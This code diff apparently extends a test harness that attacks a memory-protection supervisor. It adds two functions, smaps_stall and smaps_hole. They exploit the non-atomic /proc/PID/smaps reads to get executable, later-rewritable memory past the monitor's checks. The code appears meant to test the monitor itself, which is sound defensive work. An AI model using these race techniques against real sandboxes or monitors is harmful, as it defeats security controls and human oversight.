@@ -139,7 +139,7 @@ def toctou_memfd(ctx, mode="toggle"):
         pingloop(ctx, 3)
         return
     ctx.ready()
-    time.sleep(0.5)
+    pingloop(ctx, 0.5)
     before = call(addr)
     os.pwrite(mfd, code(0x1337), 0)        # no syscall the watch sees
     after = call(addr)
@@ -157,7 +157,7 @@ def jit_alias(ctx):
     rc = _libc.mprotect(rx, PAGE, PR | PX)
     out(attack="jit_alias", rw=hex(rw), rx=hex(rx or 0), mprotect=rc, errno=ctypes.get_errno())
     ctx.ready()
-    time.sleep(0.5)
+    pingloop(ctx, 0.5)
     before = call(rx)
     ctypes.memmove(rw, code(0xBEEF), 6)
     after = call(rx)
@@ -196,3 +196,92 @@ def main(ctx) -> int:
     fn = ATTACKS.get(name) or extra[name]
     fn(ctx, *params)
     return 0
+
+
+def smaps_stall(ctx, nmaps="60000", secs="6", nthreads="2"):
+    """Pre-READY: many small mappings make each /proc/PID/smaps read (done in the trio
+    thread for every mprotect judgement) slow; then allowed mprotect(PROT_EXEC) requests."""
+    n = 0
+    for i in range(int(nmaps)):
+        a = _libc.mmap(None, PAGE, PR if i % 2 else PR | PW, MAP_PRIVATE | MAP_ANON, -1, 0)
+        if a in (None, MAP_FAILED):
+            break
+        n += 1
+    fd = os.open(libfile(), os.O_RDONLY)
+    lib = _libc.mmap(None, PAGE, PR, MAP_PRIVATE, fd, 0)
+    stop = time.monotonic() + float(secs)
+    lat = []
+
+    def worker():
+        while time.monotonic() < stop:
+            t = time.monotonic()
+            rc = _libc.mprotect(lib, PAGE, PR | PX)
+            lat.append((time.monotonic() - t, rc))
+    ts = [threading.Thread(target=worker) for _ in range(int(nthreads))]
+    [t.start() for t in ts]
+    [t.join() for t in ts]
+    out(attack="smaps_stall", mappings=n, requests=len(lat), max_wait_s=round(max(x for x, _ in lat), 3),
+        rcs=sorted({r for _, r in lat}))
+    ctx.ready()
+    pingloop(ctx, 3)
+
+
+ATTACKS["smaps_stall"] = smaps_stall
+
+
+def smaps_hole(ctx, npad="40000", wait="0.3"):
+    """Pre-READY, deterministic: mprotect(A, 2 pages, RX) where A is a pristine read-only
+    libz page and A+4096 is a hole. /proc/PID/smaps is not an atomic snapshot: once the
+    supervisor's read has passed A (the lowest mapping; thousands of padding mappings
+    above it keep the read going), another thread maps a memfd into the hole. The
+    supervisor judges only A; the kernel then applies RX to both pages."""
+    pads = []
+    for i in range(int(npad)):
+        a = _libc.mmap(None, PAGE, PR if i % 2 else PR | PW, MAP_PRIVATE | MAP_ANON, -1, 0)
+        if a in (None, MAP_FAILED):
+            break
+        pads.append(a)
+    base = 0x100000000
+    lib = os.open(libfile(), os.O_RDONLY)
+    a0 = _libc.mmap(base, PAGE, PR, MAP_PRIVATE | 0x100000, lib, 0)     # MAP_FIXED_NOREPLACE
+    mfd = os.memfd_create("payload")
+    os.write(mfd, code(1).ljust(PAGE, b"\xcc"))
+    started = threading.Event()
+    res = {}
+
+    def swapper():
+        started.wait()
+        time.sleep(float(wait))
+        res["a1"] = _libc.mmap(base + PAGE, PAGE, PR, MAP_SHARED | 0x10, mfd, 0)   # MAP_FIXED, no PROT_EXEC
+    t = threading.Thread(target=swapper)
+    t.start()
+    started.set()
+    t0 = time.monotonic()
+    rc = _libc.mprotect(base, 2 * PAGE, PR | PX)
+    err = ctypes.get_errno()
+    dt = time.monotonic() - t0
+    t.join()
+    for a in pads:
+        _libc.munmap(ctypes.c_void_p(a), PAGE)
+    with open("/proc/self/maps") as f:
+        lines = [ln.strip() for ln in f if ln.startswith(("100000000-", "100001000-"))]
+    out(attack="smaps_hole", pads=len(pads), a0=hex(a0 or 0), a1=hex(res.get("a1") or 0), mprotect=rc,
+        errno=err, judged_s=round(dt, 3), maps=lines)
+    if rc != 0:
+        ctx.ready()
+        pingloop(ctx, 2)
+        return
+    ctx.ready()
+    pingloop(ctx, 0.5)
+    before = call(base + PAGE)
+    os.pwrite(mfd, code(0xC0DE), 0)
+    after = call(base + PAGE)
+    out(attack="smaps_hole", phase="after-ready", ret_before=before, ret_after=hex(after))
+    pingloop(ctx, 3)
+    os.pwrite(mfd, code(0xF00D), 0)
+    out(attack="smaps_hole", phase="survived-scans", ret=hex(call(base + PAGE)))
+    pingloop(ctx, 1)
+
+
+_libc.munmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t)
+ATTACKS["smaps_hole"] = smaps_hole
